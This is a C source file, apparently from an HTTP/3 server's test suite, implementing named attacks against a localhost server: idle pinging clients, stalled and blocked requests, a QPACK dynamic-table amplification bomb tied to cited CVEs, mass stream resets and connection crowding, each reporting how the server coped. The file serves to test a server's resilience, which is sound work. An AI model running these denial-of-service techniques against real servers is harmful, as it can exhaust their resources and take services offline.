
/*
 * Attacks by HTTP/3: clients that stay and do nothing, QPACK as a lever, ends
 * in the middle of things.
 */

#include <ngx_config.h>
#include <ngx_core.h>
#include "attacks.h"
#include "crypto/quic_random.h"
#include "wire/h3_frame.h"


#define ATTACK_PATIENCE  20000          /* ms for the server to lose its own */
#define ATTACK_PING      100            /* ms */

#define ATTACK_CONTROL   2
#define ATTACK_ENCODER   6

/* GET https://localhost/, but for HEADERS' type and length */
#define ATTACK_GET       "0000 d1 d7 c1 50 09 6c6f63616c686f7374"


static void attack_stream(client_t *c, uint64_t id, const char *hex,
    ngx_uint_t fin);


static ngx_msec_t
attack_now(void)
{
    struct timespec  ts;

    (void) clock_gettime(CLOCK_MONOTONIC, &ts);

    return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}


/*
 * Says that it is there until done(c), and no more.  "start" is from before what
 * the server counts from: it may be long ago when we look at the clock again.
 */

static void
attack_stay(client_t *c, ngx_msec_t start, ngx_uint_t (*done)(client_t *c))
{
    while (!c->close.n && !done(c)
           && attack_now() - start < ATTACK_PATIENCE)
    {
        (void) client_send_hex(c, QUIC_PACKET_1RTT, "01");
        (void) client_wait(c, done, ATTACK_PING);
    }

    attack_report("ms", attack_now() - start);
}


/* GOAWAYs on the server's control stream, and the ID of the last */

static uint64_t
attack_goaways(client_t *c, uint64_t *id)
{
    u_char             *p, *end;
    uint64_t            n, last;
    client_stream_t    *s;
    h3_frame_reader_t   fr;

    s = client_stream(c, 3);

    p = s->head + 1;
    end = s->head + s->received;
    n = last = 0;

    ngx_memzero(&fr, sizeof(h3_frame_reader_t));

    while (p < end && h3_frame_read_header(&fr, &p, end) == NGX_OK) {

        if (fr.type == H3_FRAME_GOAWAY) {
            n++;
            (void) quic_varint_read(p, p + fr.left, &last);
        }

        p += fr.left;
        h3_frame_read_payload(&fr, fr.left);
    }

    if (id) {
        *id = last;
    }

    return n;
}


static void
attack_report_goaways(client_t *c)
{
    uint64_t  id;

    attack_report("goaways", attack_goaways(c, &id));
    attack_report("goaway", id);
}


/* requests until the server has had enough, and one behind its last GOAWAY */

static void
attack_goaway(ngx_uint_t n)
{
    client_t         *c;
    ngx_uint_t        i;
    ngx_msec_t        start;
    client_stream_t  *s;

    c = attack_client(NULL, CLIENT_ESTABLISHED);

    /* streams that are open keep the connection open */

    attack_stream(c, 0, "21", 0);

    for (i = 0; i < n && attack_goaways(c, NULL) == 0; i++) {
        if (client_goes_on(c) != NGX_OK) {
            attack_fail("no response");
        }

        (void) client_wait(c, client_never, 10);
    }

    attack_report("requests", i);

    start = attack_now();

    while (attack_goaways(c, NULL) < 2
           && attack_now() - start < ATTACK_PATIENCE)
    {
        (void) client_wait(c, client_never, 10);
    }

    attack_report_goaways(c);

    (void) client_get(c, "/");
    (void) client_wait(c, client_is_answered, CLIENT_TIMEOUT);

    s = client_stream(c, c->want);

    attack_report("late", s->reset && s->stopped ? s->reset_error : 0);

    attack_stay(c, attack_now(), client_is_closed);
    attack_report_close(c);
    attack_end(c);
}


static void
attack_stream(client_t *c, uint64_t id, const char *hex, ngx_uint_t fin)
{
    u_char  buf[2048];

    if (client_send_stream(c, id, buf, client_hex(buf, hex), fin) != NGX_OK) {
        attack_fail("a stream can't be sent");
    }
}


/* a stream that never becomes a request: n bytes of one */

static void
attack_no_request(ngx_uint_t n)
{
    client_t         *c;
    ngx_msec_t        start;
    client_stream_t  *s;

    c = attack_client(NULL, CLIENT_ESTABLISHED);
    c->want = 0;
    c->next_request = 4;
    start = attack_now();

    attack_stream(c, 0, n ? "01" : "", 0);
    attack_stay(c, start, client_is_answered);

    s = client_stream(c, 0);

    attack_report("reset", s->reset ? s->reset_error : 0);
    attack_report("stopped", s->stopped ? s->stop_error : 0);

    start = attack_now();

    attack_report("alive", !c->close.n && client_goes_on(c) == NGX_OK);

    /* and all of it is over in time */

    attack_stay(c, start, client_is_closed);
    attack_report_close(c);
    attack_end(c);
}


/* a request that needs an insertion which never comes */

static void
attack_blocked_request(ngx_uint_t n)
{
    client_t         *c;
    ngx_msec_t        start;
    client_stream_t  *s;

    c = attack_client(NULL, CLIENT_ESTABLISHED);
    c->want = 0;
    start = attack_now();

    attack_stream(c, ATTACK_CONTROL, "00 0400", 0);
    attack_stream(c, 0, "01 04 0200 d1 d7", 0);
    attack_stay(c, start, client_is_answered);

    s = client_stream(c, 0);

    attack_report("reset", s->reset ? s->reset_error : 0);
    attack_report_close(c);
    attack_end(c);
}


/* nothing but PINGs, after n requests */

static void
attack_pings(ngx_uint_t n)
{
    client_t    *c;
    ngx_msec_t   start;

    start = attack_now();
    c = attack_client(NULL, CLIENT_ESTABLISHED);

    while (n--) {
        start = attack_now();

        if (client_goes_on(c) != NGX_OK) {
            attack_fail("no response");
        }
    }

    attack_stay(c, start, client_is_closed);
    attack_report_goaways(c);
    attack_report_close(c);
    attack_end(c);
}


/* a response is asked for, and isn't taken: 100 bytes of it are */

static void
attack_no_credit(ngx_uint_t n)
{
    client_t       *c;
    ngx_msec_t      start;
    client_conf_t   conf;

    ngx_memzero(&conf, sizeof(client_conf_t));

    conf.credit = "04 04 #1000000 05 02 #100 07 04 #1000000 09 01 03";

    c = attack_client(&conf, CLIENT_ESTABLISHED);
    start = attack_now();

    if (client_get(c, "/text") != NGX_OK) {
        attack_fail("no request");
    }

    attack_stay(c, start, client_is_closed);
    attack_report("received", client_stream(c, c->want)->received);
    attack_report_close(c);
    attack_end(c);
}


/*
 * RFC 9000, 5.2.2: n clients, and one that comes later and finds no room, stay
 * until our input ends
 */

static void
attack_crowd(ngx_uint_t n)
{
    char            ch;
    client_t      **c, *late;
    ngx_uint_t      i;
    client_conf_t   conf;

    c = calloc(n, sizeof(client_t *));

    for (i = 0; i < n; i++) {
        c[i] = attack_client(NULL, CLIENT_ESTABLISHED);
    }

    ngx_memzero(&conf, sizeof(client_conf_t));

    late = attack_create(&conf);
    (void) client_send_hello(late);
    (void) client_wait(late, client_is_closed, CLIENT_TIMEOUT);

    if (read(STDIN_FILENO, &ch, 1) != 0) {
        attack_fail("no end of the input");
    }

    attack_report("clients", n);
    attack_report("answers", late->datagrams);
    attack_report_close(late);

    client_free(late);

    for (i = 0; i < n; i++) {
        attack_end(c[i]);
    }

    free(c);
}


/*
 * 22, CVE-2025-64702, CVE-2026-40898: an entry of 4000 bytes in the dynamic
 * table, and n references to it, a byte each, in header fields and in trailers.
 */

static void
attack_qpack_bomb(ngx_uint_t n)
{
    u_char              *buf, *p, head[64];
    size_t               len;
    client_t            *c;
    client_stream_t     *s;
    client_response_t    r;

    c = attack_client(NULL, CLIENT_ESTABLISHED);
    buf = malloc(n + 8192);

    attack_stream(c, ATTACK_CONTROL, "00 0400", 0);

    /* capacity 4096; insert x: 4000 times a; Huffman isn't needed */

    p = buf + client_hex(buf, "02 3fe11f 41 78 7fa11e");
    ngx_memset(p, 'a', 4000);
    (void) client_send_stream(c, ATTACK_ENCODER, buf, p + 4000 - buf, 0);

    /* Required Insert Count 1, Base 1 */

    p = buf + client_hex(buf, "0200 d1 d7 c1 50 09 6c6f63616c686f7374");
    ngx_memset(p, 0x80, n);
    len = p + n - buf;

    p = h3_frame_write_header(head, H3_FRAME_HEADERS, len);
    (void) client_send_stream(c, 0, head, p - head, 0);
    (void) client_send_stream(c, 0, buf, len, 1);

    c->want = 0;
    (void) client_wait(c, client_is_answered, CLIENT_TIMEOUT);

    s = client_stream(c, 0);
    client_read_response(s, &r);
    attack_report("status", r.status);

    /* the same as trailers */

    p = head + client_hex(head, "01 10 0000 d1 d7 c1"
                                "50 09 6c6f63616c686f7374");
    (void) client_send_stream(c, 4, head, p - head, 0);

    p = buf + client_hex(buf, "0200");
    ngx_memset(p, 0x80, n);
    len = p + n - buf;

    p = h3_frame_write_header(head, H3_FRAME_HEADERS, len);
    (void) client_send_stream(c, 4, head, p - head, 0);
    (void) client_send_stream(c, 4, buf, len, 1);

    c->want = 4;
    (void) client_wait(c, client_is_answered, CLIENT_TIMEOUT);

    c->next_request = 8;

    attack_report_close(c);
    attack_report("alive", client_goes_on(c) == NGX_OK);
    attack_end(c);
    free(buf);
}


/* so many streams in all */

static ngx_uint_t
attack_may_open(client_t *c)
{
    return c->close.n
           || ngx_max(c->max_streams_bidi, c->peer.initial_max_streams_bidi)
              >= c->want;
}


/*
 * 23: as many blocked streams as are allowed, each with as much behind its
 * beginning as it may send; n rounds of them, each of which is cancelled.
 */

static void
attack_blocked_streams(ngx_uint_t n)
{
    u_char       buf[1000], frames[64], *p;
    client_t    *c;
    uint64_t     id;
    ngx_uint_t   i, k, round;

    c = attack_client(NULL, CLIENT_ESTABLISHED);

    attack_stream(c, ATTACK_CONTROL, "00 0400", 0);
    ngx_memset(buf, 'x', sizeof(buf));

    for (round = 0; round < n && !c->close.n; round++) {

        for (i = 0; i < 16 && !c->close.n; i++) {
            id = 4 * (16 * round + i);

            /* HEADERS of 20,000 bytes, with a Required Insert Count of 1 */

            attack_stream(c, id, "01 #20000 0200 d1 d7", 0);

            for (k = 0; k < 18; k++) {
                (void) client_send_stream(c, id, buf, sizeof(buf), 0);
            }

            (void) client_ping(c);
        }

        for (i = 0; i < 16 && !c->close.n; i++) {
            id = 4 * (16 * round + i);

            frames[0] = QUIC_FT_RESET_STREAM;
            p = quic_varint_write(frames + 1, id);
            p = quic_varint_write(p, 0x10c);
            p = quic_varint_write(p, client_stream(c, id)->sent);
            *p++ = QUIC_FT_STOP_SENDING;
            p = quic_varint_write(p, id);
            p = quic_varint_write(p, 0x10c);

            (void) attack_put(c, frames, p - frames, i);
        }

        /* until there is credit for the next ones */

        (void) client_ping(c);
        c->want = 16 * (round + 2);
        (void) client_wait(c, attack_may_open, CLIENT_TIMEOUT);
    }

    c->next_request = 4 * 16 * round;

    attack_report("rounds", round);
    attack_report_close(c);
    attack_report("alive", client_goes_on(c) == NGX_OK);
    attack_end(c);
}


/*
 * 15: requests that end, by any side and in any way, in the packet in which
 * they begin, or where they are blocked, or go on; packets of 60 KB; the end of
 * the connection right behind.
 */

static u_char *
attack_random_stream(u_char *p, uint64_t id, ngx_uint_t *open)
{
    u_char      section[256];
    size_t      len;
    uint64_t    r;
    ngx_uint_t  fin;

    static const char  *sections[] = {
        "0000 d1 d7 c1 50 09 6c6f63616c686f7374",       /* GET */
        "0000 d4 d7 c1 50 09 6c6f63616c686f7374",       /* POST */
        "0200 d1 d7 c1 50 09 6c6f63616c686f7374 80",    /* blocked */
        "0000 d1 d1",                                   /* malformed */
        "0000 d1 d7 c1 50 09 6c6f"                      /* cut off below */
    };

    r = quic_random_u64();
    len = client_hex(section, sections[r % 5]);
    fin = r >> 8 & 1;

    *p++ = QUIC_FT_STREAM|QUIC_STREAM_LEN;
    *(p - 1) |= fin && r % 5 != 4 ? QUIC_STREAM_FIN : 0;
    p = quic_varint_write(p, id);
    p = quic_varint_write(p, len + 2);
    *p++ = 0x01;
    *p++ = r % 5 == 4 ? 40 : len;
    p = ngx_cpymem(p, section, len);

    if (r >> 9 & 1) {
        *p++ = QUIC_FT_STOP_SENDING;
        p = quic_varint_write(p, id);
        p = quic_varint_write(p, 0x10c);
    }

    if (r >> 10 & 1) {
        *p++ = QUIC_FT_RESET_STREAM;
        p = quic_varint_write(p, id);
        p = quic_varint_write(p, 0x10c);
        p = quic_varint_write(p, len + 2);

    } else if (r % 5 == 4) {
        *open = 1;
    }

    return p;
}


static void
attack_lifetimes(ngx_uint_t n)
{
    u_char      *frames, *p;
    client_t    *c;
    uint64_t     r;
    ngx_uint_t   i, k, open, requests;

    frames = malloc(65536);
    requests = 0;

    for (i = 0; i < n; i++) {
        c = attack_client(NULL, CLIENT_ESTABLISHED);
        r = quic_random_u64();
        open = 0;

        attack_stream(c, ATTACK_CONTROL, "00 0400", 0);
        attack_stream(c, ATTACK_ENCODER, "02 3fe11f", 0);

        p = frames;

        for (k = 0; k < 1 + (r & 15); k++) {
            p = attack_random_stream(p, 4 * k, &open);
            requests++;
        }

        /* what the blocked ones wait for, in the same packet */

        if (r >> 8 & 1) {
            p += client_hex(p, "0e 06 04 04 41 78 01 61");
        }

        if (r >> 9 & 1) {
            p += client_hex(p, "0a 0a 01 02");  /* a second one */
        }

        if (r >> 10 & 1) {
            ngx_memset(p, QUIC_FT_PADDING, 60000 - (p - frames));
            p = frames + 60000;
        }

        if (r >> 11 & 1) {
            p += client_hex(p, "1d 41 00 00");
        }

        if (client_send(c, QUIC_PACKET_1RTT, frames, p - frames) != NGX_OK) {
            attack_fail("a packet can't be sent");
        }

        (void) client_wait(c, client_is_closed, 5);
        attack_end(c);
    }

    free(frames);

    attack_report("requests", requests);
}


/* a client whose SETTINGS say that it takes n bytes of fields */

static void
attack_small_fields(ngx_uint_t n)
{
    u_char              buf[32], setting[16], *p;
    client_t           *c;
    client_stream_t    *s;
    client_response_t   r;

    c = attack_client(NULL, CLIENT_ESTABLISHED);

    p = quic_varint_write(setting, 0x06);
    p = quic_varint_write(p, n);

    buf[0] = H3_STREAM_CONTROL;
    p = client_write_frame(buf + 1, H3_FRAME_SETTINGS, setting, p - setting);

    (void) client_send_stream(c, ATTACK_CONTROL, buf, p - buf, 0);

    if (client_ping(c) != NGX_OK || client_get(c, attack_path) != NGX_OK) {
        attack_fail("no request");
    }

    (void) client_wait(c, client_is_answered, CLIENT_TIMEOUT);

    s = client_stream(c, c->want);
    client_read_response(s, &r);

    printf("%d %s %d\n", (int) r.status,
           s->fin ? "fin" : s->reset ? "reset" : "nothing", (int) r.sections);

    attack_end(c);
}


const attack_t  attacks_h3[] = {
    { "small_fields", 500, attack_small_fields },
    { "no_request", 1, attack_no_request },
    { "blocked_request", 1, attack_blocked_request },
    { "pings", 1, attack_pings },
    { "no_credit", 1, attack_no_credit },
    { "crowd", 10, attack_crowd },
    { "goaway", 1, attack_goaway },
    { "qpack_bomb", 5000, attack_qpack_bomb },
    { "blocked_streams", 20, attack_blocked_streams },
    { "lifetimes", 500, attack_lifetimes },
    { NULL, 0, NULL }
};
